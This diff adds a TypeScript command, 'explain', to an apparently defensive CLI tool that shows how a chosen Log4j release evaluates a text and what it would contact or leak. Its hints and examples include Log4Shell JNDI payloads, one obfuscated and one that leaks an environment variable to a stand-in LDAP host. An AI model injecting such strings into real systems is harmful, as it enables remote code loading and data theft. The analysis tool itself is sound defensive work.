@@ -1,0 +1,69 @@
+import { type Log4jVersion, problem, readLog4jVersion } from '../../core/index.ts'
+import { explain as explainText, readWorld, type World } from '../../lookup/index.ts'
+import { readJsonFile } from '../../node/index.ts'
+import type { Command } from '../command.ts'
+import { inWords } from '../explain/in-words.ts'
+import { explainLines } from '../explain/json-lines.ts'
+import { choiceOption, flagOption, optionInvalid, textOption } from '../options.ts'
+
+export const explainNoText = problem('EXPLAIN_NO_TEXT', () => ({
+  message: 'there is no text to explain',
+  hint: "Give it in single quotes, as in fireline explain '${jndi:ldap://x.example/a}', or use --jsonl.",
+}))
+
+export const contextUnusable = problem('CONTEXT_UNUSABLE', (path: string, why: string) => ({
+  message: `the context file ${path} cannot be used: ${why}`,
+  hint: 'Write {"env": {…}, "sys": {…}, "ctx": {…}, "properties": {…}, "java": {…}, "event": {…}, "at": 0}, all optional.',
+}))
+
+/** Says what a release of Log4j makes of a text. */
+export const explain: Command = {
+  name: 'explain',
+  summary: 'Say what Log4j makes of a text: each step, what it would contact, what it would leak.',
+  examples: [
+    ["fireline explain '${${::-j}ndi:ldap://x.example/a}'", 'exit code 1: it would call out'],
+    ["fireline explain --log4j 2.3 '${jndi:ldap://x/${env:USER}}'", 'as an older release does'],
+    ["fireline explain --mode message '${${::-j}ndi:ldap://x.example/a}'", 'as %m of a pattern layout does'],
+    ['fireline explain --jsonl --context context.json < strings.jsonl', 'one JSON string a line, one answer a line'],
+  ],
+
+  declare(command) {
+    command
+      .argument('[text]', 'the text, in single quotes')
+      .option('--log4j <release>', 'the release that evaluates it', '2.14.1')
+      .option('--mode <name>', 'once: one pass of the substitutor; message: what %m does', 'once')
+      .option(
+        '--context <file>',
+        'the world it sees, as JSON: env, sys, ctx, properties, java, event, at, zone, locale',
+      )
+      .option('--jsonl', 'read one JSON string a line from standard input, print one JSON object a line')
+  },
+
+  async run([text], options, io) {
+    const release = textOption(options, 'log4j') ?? ''
+    const version = versionOf(release)
+    const mode = choiceOption(options, 'mode', ['once', 'message'])
+    const world = await worldFrom(textOption(options, 'context'))
+    if (flagOption(options, 'jsonl')) {
+      await explainLines(io, { version, mode, world })
+      return 0
+    }
+    if (text === undefined) throw explainNoText()
+    const explanation = explainText(text, { version, mode, world })
+    await io.print(inWords(text, release, explanation))
+    return explanation.lookups.some(({ target }) => target.is !== 'nothing') ? 1 : 0
+  },
+}
+
+function versionOf(release: string): Log4jVersion {
+  const version = readLog4jVersion(release)
+  if (version === null) throw optionInvalid('log4j', release, 'a release number, such as 2.14.1 or 2.0-beta9')
+  return version
+}
+
+async function worldFrom(path: string | null): Promise<World> {
+  if (path === null) return {}
+  const read = readWorld(await readJsonFile(path))
+  if ('flaw' in read) throw contextUnusable(path, read.flaw)
+  return read.world
+}
